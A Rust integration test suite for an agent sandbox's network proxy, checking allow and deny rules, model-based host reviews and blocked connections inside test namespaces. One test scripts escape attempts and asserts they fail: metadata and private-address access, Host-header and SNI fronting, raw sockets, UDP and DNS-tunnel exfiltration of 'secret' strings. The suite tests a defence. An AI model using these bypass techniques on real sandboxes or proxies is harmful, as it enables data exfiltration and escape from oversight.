//! The network's door: real tools inside the real walls, in namespaces of the test's own, with a peer that has a public
//! address and names that the runner's machine knows. No packet leaves the namespaces.

use std::process::{Command, Stdio};

use harness::{
    Missing, Ran, Script, ScriptedModel, Stage, TestServer, assessment, is_root, lacks, launches,
};
use serde_json::Value;

/// The peer at 198.41.0.4: web servers, a git daemon, something that speaks first as ssh does, and a name server that writes
/// down what it is asked.
const PEER: &str = r#"
import http.server, os, socket, ssl, subprocess, sys, threading, time
HOME = sys.argv[1]; ADDRESS = '198.41.0.4'
def bound(kind, port):
    s = socket.socket(socket.AF_INET, kind); s.setsockopt(0, 15, 1); s.setsockopt(1, 2, 1); s.bind((ADDRESS, port)); return s
class Files(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a): super().__init__(*a, directory=HOME + '/origin')
    def log_message(self, *a): pass
def web(port, tls):
    s = bound(socket.SOCK_STREAM, port); s.listen(64)
    server = http.server.ThreadingHTTPServer((ADDRESS, port), Files, bind_and_activate=False)
    if tls:
        c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(HOME + '/cert.pem', HOME + '/key.pem')
        s = c.wrap_socket(s, server_side=True)
    server.socket = s; server.serve_forever()
def banner():
    s = bound(socket.SOCK_STREAM, 22); s.listen(8)
    while True: c, _ = s.accept(); c.sendall(b'SSH-2.0-origin\r\n'); c.close()
def names():
    s = bound(socket.SOCK_DGRAM, 53)
    while True:
        q, _ = s.recvfrom(512); open(HOME + '/queries', 'ab').write(q + b'\n')
for run in ((web, 80, False), (web, 443, True), (banner,), (names,)):
    threading.Thread(target=run[0], args=run[1:], daemon=True).start()
subprocess.Popen(['git', 'daemon', '--reuseaddr', '--export-all', '--base-path=' + HOME + '/origin', '--listen=0.0.0.0'])
print('up', flush=True); time.sleep(120)
"#;

/// What the runner's machine knows without asking anybody.
const HOSTS: &str = "127.0.0.1 localhost\n198.41.0.4 site.test denied.test unknown.test pypi.org\n\
    127.0.0.1 rebound.test\n10.1.2.3 inner.test\n169.254.169.254 meta.test\n198.41.0.1 self.test\n";

const SETTINGS: &str = "sandbox_mode = \"workspace-write\"\napprovals_reviewer = \"auto_review\"\n\
    [sandbox_workspace_write]\nnetwork_access = true\n[features.network_proxy]\nenabled = true\n\
    domains = { \"site.test\" = \"allow\", \"denied.test\" = \"deny\", \"rebound.test\" = \"allow\", \
    \"inner.test\" = \"allow\", \"meta.test\" = \"allow\", \"self.test\" = \"allow\", \"127.0.0.1:7000\" = \"allow\" }\n";

fn here(program: &str, arguments: &[&str]) -> bool {
    Command::new(program)
        .args(arguments)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|status| status.success())
}

fn can_be_shown(what: &str) -> bool {
    let namespaces: &[&str] = if is_root() {
        &["unshare", "--net", "--mount", "--"]
    } else {
        &[
            "unshare",
            "--user",
            "--map-root-user",
            "--net",
            "--mount",
            "--",
        ]
    };
    for tool in ["curl", "git", "python3", "openssl", "ip", "nsenter"] {
        if !here(
            "sh",
            &[
                "-c",
                &format!("PATH=$PATH:/usr/sbin:/sbin command -v {tool}"),
            ],
        ) {
            lacks(Missing::Tool, &format!("{what}, without {tool}"));
            return false;
        }
    }
    if !launches(namespaces) {
        lacks(Missing::MountNamespace, what);
        return false;
    }
    true
}

/// A stage whose runner is started with the peer beside it.
fn stage() -> Stage {
    let stage = Stage::new();
    stage.settings(SETTINGS);
    let peer = stage.outside("");
    std::fs::create_dir_all(peer.join("origin")).expect("a folder");
    std::fs::write(peer.join("origin/index.html"), "what the origin holds\n").expect("written");
    std::fs::write(peer.join("peer.py"), PEER).expect("written");
    std::fs::write(peer.join("hosts"), HOSTS).expect("written");
    std::fs::write(
        peer.join("resolv.conf"),
        "nameserver 198.41.0.4\noptions timeout:1 attempts:1\n",
    )
    .expect("written");
    let made = format!(
        "set -e; cd '{}'; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1 -subj /CN=site.test \
         -addext subjectAltName=DNS:site.test -keyout key.pem -out cert.pem; chmod 644 key.pem cert.pem; \
         git init -q work; cd work; echo one > file; git add file; git -c user.name=T -c user.email=t@example.com commit -qm one; \
         cd ../origin; git clone -q --bare ../work repo.git; git -C repo.git update-server-info; chmod -R a+rX .",
        peer.display()
    );
    assert!(here("sh", &["-c", &made]), "the origin is made");
    stage
}

/// Starts `agent-runner` with these words, with the peer beside it.
fn run<W: Into<String>>(stage: &Stage, flags: &[&str], words: impl IntoIterator<Item = W>) -> Ran {
    let words: Vec<String> = words.into_iter().map(Into::into).collect();
    let peer = stage.outside("");
    let peer = peer.display();
    let back = if is_root() {
        String::new()
    } else {
        let user = rustix::process::geteuid().as_raw();
        let group = rustix::process::getegid().as_raw();
        format!("unshare --user --map-user={user} --map-group={group} -- ")
    };
    let layout = format!(
        r#"
set -eu
mount --bind {peer}hosts /etc/hosts
if [ -e /etc/resolv.conf ]; then mount --bind {peer}resolv.conf /etc/resolv.conf; fi
OLD=$PATH; PATH=$PATH:/usr/sbin:/sbin
ip link set lo up
unshare --net python3 {peer}peer.py {peer} >{peer}up 2>{peer}errors & peer=$!
python3 -m http.server --bind 127.0.0.1 7000 --directory {peer}origin >/dev/null 2>&1 & own=$!
trap 'kill $peer $own' EXIT
for i in $(seq 50); do [ "$(readlink /proc/$peer/ns/net)" = "$(readlink /proc/self/ns/net)" ] || break; sleep 0.1; done
ip link add out type veth peer name in netns $peer
ip addr add 198.41.0.1/24 dev out; ip link set out up
nsenter --target $peer --net sh -c 'ip link set lo up; ip addr add 198.41.0.4/24 dev in; ip link set in up'
for i in $(seq 100); do grep -q up {peer}up && break; sleep 0.1; done
for i in $(seq 100); do curl -s -o /dev/null --noproxy '*' http://127.0.0.1:7000/ && break; sleep 0.1; done
for i in $(seq 100); do curl -s -o /dev/null --noproxy '*' http://198.41.0.4/ && break; sleep 0.1; done
PATH=$OLD
set +e
{back}"$@"
"#
    );
    let namespaces: Vec<&str> = if is_root() {
        vec!["unshare", "--net", "--mount", "--"]
    } else {
        vec![
            "unshare",
            "--user",
            "--map-root-user",
            "--net",
            "--mount",
            "--",
        ]
    };
    let launcher = namespaces
        .into_iter()
        .chain(["sh", "-c", layout.as_str(), "sh"]);
    stage.exec(flags, &words).launched_by(launcher).ran()
}

fn script(stage: &Stage, text: &str) -> Ran {
    stage.file("task.sh", text);
    run(stage, &[], ["sh", "task.sh"])
}

/// The verdict of the report's first decision about a host and port.
fn verdict(ran: &Ran, host: &str, port: u16) -> Option<String> {
    let decisions = ran.report["network"]["decisions"].as_array()?;
    let found = decisions
        .iter()
        .find(|decision| decision["host"] == host && decision["port"] == port)?;
    found["verdict"].as_str().map(str::to_owned)
}

#[test]
fn tools_reach_what_a_rule_allows_with_the_variables_and_without_them() {
    if !can_be_shown("tools behind the door") {
        return;
    }
    let stage = stage();
    let ran = script(
        &stage,
        r#"
code() { curl -s -m 20 -o /dev/null -w "$1 %{http_code}\n" "$@" 2>/dev/null | sed 's/^[^ ]* //' ; }
echo "plain $(curl -sS -m 20 http://site.test/)"
echo "tls $(curl -sSk -m 20 https://site.test/)"
echo "socks $(curl -sSk -m 20 --noproxy '' --proxy socks5h://127.0.0.1:3128 https://site.test/)"
echo "python $(python3 -c 'import urllib.request as u; print(u.urlopen("http://site.test/", timeout=20).read().decode().strip())')"
git clone -q http://site.test/repo.git by-http && echo "git http $(cat by-http/file)"
GIT_SSL_NO_VERIFY=1 git clone -q https://site.test/repo.git by-tls && echo "git tls $(cat by-tls/file)"
git clone -q git://site.test/repo.git by-git && echo "git git $(cat by-git/file)"
echo "unaware $(curl -sS -m 20 --noproxy '*' http://site.test/)"
echo "unaware tls $(curl -sSk -m 20 --noproxy '*' https://site.test/)"
echo "speaks first $(python3 -c 'import socket; print(socket.create_connection(("site.test", 22), 20).recv(64).decode().strip())')"
echo "denied $(curl -s -m 20 -o /dev/null -w '%{http_code}' http://denied.test/)"
echo "denied unaware $(curl -s -m 20 --noproxy '*' http://denied.test/ || echo "none")"
echo "loopback of the host by rule $(curl -sS -m 20 http://127.0.0.1:7000/)"
echo end
"#,
    );
    assert_eq!(ran.code(), 0, "{}", ran.stderr);
    let holds = "what the origin holds";
    let expected = format!(
        "plain {holds}\ntls {holds}\nsocks {holds}\npython {holds}\ngit http one\ngit tls one\ngit git one\n\
         unaware {holds}\nunaware tls {holds}\nspeaks first SSH-2.0-origin\ndenied 403\ndenied unaware none\n\
         loopback of the host by rule {holds}\nend\n"
    );
    assert_eq!(ran.text(), expected, "{}", ran.stderr);
    assert_eq!(verdict(&ran, "site.test", 443).as_deref(), Some("allowed"));
    assert_eq!(verdict(&ran, "denied.test", 80).as_deref(), Some("denied"));
    assert_eq!(ran.report["confinement"]["network"], "door");
}

#[test]
fn an_unknown_host_is_reviewed_and_a_refusal_leaves_the_command_alive() {
    if !can_be_shown("reviews of hosts") {
        return;
    }
    let stage = stage();
    let ran = script(
        &stage,
        r#"
for i in 1 2 3 4; do curl -s -m 60 -o /dev/null -w '%{http_code}\n' http://pypi.org/ & done; wait
curl -s -m 60 -o told -w '%{http_code}\n' http://unknown.test/
grep -o '"reason":"[a-z_]*"' told
echo alive
"#,
    );
    assert_eq!(ran.code(), 0, "{}", ran.stderr);
    assert_eq!(
        ran.text(),
        "200\n200\n200\n200\n403\n\"reason\":\"review_failed\"\nalive\n",
        "{}",
        ran.stderr
    );
    // Four connections at once are one question.
    let reviews = ran.report["network"]["reviews"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let told: Vec<_> = reviews
        .iter()
        .map(|review| (review["host"].as_str(), review["status"].as_str()))
        .collect();
    assert_eq!(
        told,
        [
            (Some("pypi.org"), Some("approved")),
            (Some("unknown.test"), Some("failed")),
        ]
    );
    let history = stage.history();
    let spent: Vec<_> = history
        .iter()
        .filter(|entry| entry["redeemed_at"].is_string())
        .map(|entry| (&entry["action"]["host"], &entry["action"]["port"]))
        .collect();
    assert_eq!(
        spent,
        [(&Value::from("pypi.org"), &Value::from(80))],
        "{history:?}"
    );
}

#[test]
fn nobody_is_asked_where_the_policy_or_the_managed_list_says_so() {
    if !can_be_shown("hosts that nobody is asked about") {
        return;
    }
    let stage = stage();
    stage.file(
        "task.sh",
        "curl -s -m 20 http://pypi.org/ | grep -o '\"reason\":\"[a-z_]*\"'",
    );
    for flags in [["-a", "never"], ["-c", "approvals_reviewer=user"]] {
        let ran = run(&stage, &flags, ["sh", "task.sh"]);
        assert_eq!(
            ran.text(),
            "\"reason\":\"not_allowed\"\n",
            "{flags:?} {}",
            ran.stderr
        );
        assert_eq!(ran.report["network"]["reviews"], Value::Array(Vec::new()));
    }
}

#[test]
fn nothing_talks_past_the_door() {
    if !can_be_shown("attacks on the door") {
        return;
    }
    let stage = stage();
    let ran = script(
        &stage,
        r#"
reason() { curl -s -m 20 "$@" | grep -o '"reason":"[a-z_]*"' || echo none; }
for host in rebound.test inner.test meta.test self.test 127.0.0.1:7001 10.1.2.3 169.254.169.254 '[::1]:7000' 2130706433; do
    echo "$host $(reason "http://$host/")"
done
echo "fronted $(reason -H 'Host: denied.test' http://site.test/)"
echo "sni $(curl -sk -m 20 --connect-to denied.test:443:site.test:443 https://denied.test/ || echo closed)"
python3 - <<'END'
import socket
def tcp(name, address, family=socket.AF_INET):
    try:
        s = socket.socket(family); s.settimeout(3); s.connect(address); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); r = s.recv(200)
        print(name, 'origin' if b'origin' in r else 'nothing')
    except OSError: print(name, 'nothing')
tcp('by address', ('198.41.0.4', 80)); tcp('other port', ('198.41.0.4', 8080)); tcp('host loopback', ('127.0.0.1', 7000))
tcp('host address', ('198.41.0.1', 7000)); tcp('mapped', ('::ffff:198.41.0.4', 80), socket.AF_INET6); tcp('unnamed', ('198.18.9.9', 80))
for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_RAW, 255)):
    try: socket.socket(socket.AF_INET, kind, protocol); print('raw socket')
    except OSError: pass
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768); print('packet socket')
except OSError: pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
for port in (443, 53):
    try: u.sendto(b'secret-by-datagram', ('198.41.0.4', port)); u.recv(100)
    except OSError: pass
try: socket.create_connection(('127.0.0.1', 22), 2).recv(10) and print('reached 22')
except OSError: pass
END
for i in 1 2 3 4 5; do getent hosts "secret-$i.tunnel.test" >/dev/null; getent hosts "secret-$i.denied.test" > /dev/null; done
curl -s -m 20 -o /dev/null http://secret.by-request.test/ || true
"#,
    );
    assert_eq!(
        ran.text(),
        "rebound.test \"reason\":\"not_allowed_local\"\n\
         inner.test \"reason\":\"not_allowed_local\"\n\
         meta.test \"reason\":\"not_allowed_local\"\n\
         self.test \"reason\":\"not_allowed_local\"\n\
         127.0.0.1:7001 \"reason\":\"not_allowed_local\"\n\
         10.1.2.3 \"reason\":\"not_allowed_local\"\n\
         169.254.169.254 \"reason\":\"not_allowed_local\"\n\
         [::1]:7000 \"reason\":\"not_allowed_local\"\n\
         2130706433 \"reason\":\"not_allowed_local\"\n\
         fronted \"reason\":\"malformed\"\n\
         sni closed\n\
         by address nothing\nother port nothing\nhost loopback nothing\nhost address nothing\nmapped nothing\nunnamed nothing\n",
        "{}",
        ran.stderr
    );
    // No name of the command's, and no datagram, reached a name server outside.
    let queries = std::fs::read(stage.outside("queries")).unwrap_or_default();
    assert!(queries.is_empty(), "{}", String::from_utf8_lossy(&queries));
}

#[test]
fn a_door_without_a_network_opens_nothing_and_a_network_without_a_door_is_said_loudly() {
    let stage = Stage::new();
    stage.settings(&SETTINGS.replace("network_access = true", "network_access = false"));
    let ran = stage
        .exec(
            &[],
            &[
                "sh",
                "-c",
                "env | grep -ci _proxy; cat /proc/net/route | wc -l",
            ],
        )
        .ran();
    assert_eq!(ran.text(), "0\n1\n", "{}", ran.stderr);
    assert_eq!(ran.report["confinement"]["network"], "off");
    assert_eq!(ran.report["network"], Value::Null);

    stage.settings(&SETTINGS.replace("enabled = true", "enabled = false"));
    let ran = stage.exec(&[], &["true"]).ran();
    assert_eq!(ran.report["confinement"]["network"], "full");
    let notes = ran.report["notes"].to_string();
    assert!(
        notes.contains("NETWORK: commands reach every host"),
        "{notes}"
    );
}

#[test]
fn a_host_can_be_checked_without_reaching_it() {
    let stage = Stage::new();
    stage.settings(SETTINGS);
    let checked = |host: &str| {
        let ran = stage
            .runner()
            .args(["proxy", "check", "--json", host])
            .ran();
        assert_eq!(ran.code(), 0, "{}", ran.stderr);
        let answer: Value = serde_json::from_str(&ran.text()).expect("JSON");
        (
            answer["verdict"].clone(),
            answer["reason"].clone(),
            answer["rule"].clone(),
        )
    };
    let text = |text: &str| Value::String(text.to_owned());
    assert_eq!(
        checked("denied.test"),
        (text("refused"), text("denied"), text("denied.test"))
    );
    assert_eq!(
        checked("127.0.0.1:7000"),
        (text("allowed"), Value::Null, text("127.0.0.1:7000"))
    );
    assert_eq!(
        checked("unknown.test:80"),
        (text("asked"), Value::Null, Value::Null)
    );
    assert_eq!(
        checked("10.0.0.1"),
        (text("refused"), text("not_allowed_local"), Value::Null)
    );
    let wrong = stage.runner().args(["proxy", "check", "a b"]).ran();
    assert_eq!(wrong.code(), 125, "{}", wrong.stderr);
}

/// Asks a model that says `outcome` about a host that nobody can look up, by a server of a team's and in this process.
fn reviewed(outcome: &str) -> Vec<(Ran, Vec<Value>)> {
    let mut seen = Vec::new();
    for remote in [false, true] {
        let stage = Stage::new();
        let (risk, authorization) = if outcome == "allow" {
            ("low", "unknown")
        } else {
            ("high", "low")
        };
        let model = ScriptedModel::start(Script::Says(assessment(outcome, risk, authorization)));
        let reviewer = format!(
            "[reviewer]\ndeadline_secs = 20\n{}",
            model.table("openai-chat")
        );
        let server = if remote {
            let server = TestServer::with(&reviewer);
            stage.ask(&server);
            Some(server)
        } else {
            stage.runner_settings(&reviewer);
            None
        };
        stage.settings(SETTINGS);
        let script = "for i in 1 2 3; do curl -s -m 60 http://nowhere.invalid/ | grep -o '\"reason\":\"[a-z_]*\"'; done; echo alive";
        let ran = stage
            .exec(&["--session", "s-1"], &["sh", "-c", script])
            .ran();
        // What the model saw holds the host and the command that wants it.
        let prompt = String::from_utf8_lossy(&model.asked()[0].body).into_owned();
        assert!(
            prompt.contains("nowhere.invalid") && prompt.contains("curl -s -m 60"),
            "{prompt}"
        );
        assert_eq!(model.asked().len(), 1, "one question for one host");
        let history = stage.history();
        drop(server);
        seen.push((ran, history));
    }
    seen
}

#[test]
fn a_denied_host_stays_closed_for_the_command_and_an_approved_one_is_open_and_still_vetted() {
    for (outcome, reason, status) in [
        ("deny", "review_denied", "denied"),
        ("allow", "dns_failed", "approved"),
    ] {
        for (ran, history) in reviewed(outcome) {
            let line = format!("\"reason\":\"{reason}\"\n");
            assert_eq!(
                ran.text(),
                format!("{line}{line}{line}alive\n"),
                "{}",
                ran.stderr
            );
            assert_eq!(ran.reported("/network/reviews/0/status"), status);
            assert_eq!(history.len(), 1, "{history:?}");
            assert_eq!(history[0]["review"]["status"], status, "{history:?}");
            assert_eq!(
                history[0]["redeemed_at"].is_string(),
                outcome == "allow",
                "{history:?}"
            );
        }
    }
}
